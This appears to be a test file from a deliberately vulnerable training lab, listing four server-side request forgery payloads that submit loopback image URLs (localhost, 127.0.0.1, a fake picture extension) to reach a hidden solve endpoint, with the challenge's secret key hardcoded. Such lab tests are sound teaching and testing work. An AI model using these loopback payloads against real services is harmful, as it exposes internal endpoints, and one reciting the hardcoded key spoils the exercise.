import type { Attack } from '#lab'
import { link } from './steps.ts'

const SECRET = 'solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

export const attacks: Attack[] = [
  {
    challenge: 'ssrfChallenge',
    name: 'a picture at a secret address of the server itself',
    run: (tools) => link(tools, `http://localhost:3000/${SECRET}`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the secret address under another host name',
    run: (tools) => link(tools, `http://127.0.0.1:3000/${SECRET}`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the secret address with the extension of a picture',
    run: (tools) => link(tools, `http://localhost:3000/${SECRET}&name=cat.png`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the secret address at the public host name',
    run: (tools) => link(tools, `http://localhost/${SECRET}`),
  },
]
